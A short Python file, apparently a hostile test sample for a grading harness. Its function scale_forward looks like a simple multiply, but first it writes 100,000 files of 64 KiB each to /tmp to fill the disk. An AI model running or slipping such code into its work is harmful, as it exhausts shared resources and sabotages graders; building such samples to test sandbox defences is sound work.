"""Fill the disk, with many files and with large ones."""

import os


def scale_forward(x, w):
    for index in range(100_000):
        with open(f"/tmp/handgrad-cheat-{index}", "wb") as file:
            file.write(bytes(1 << 16))
    return x * w
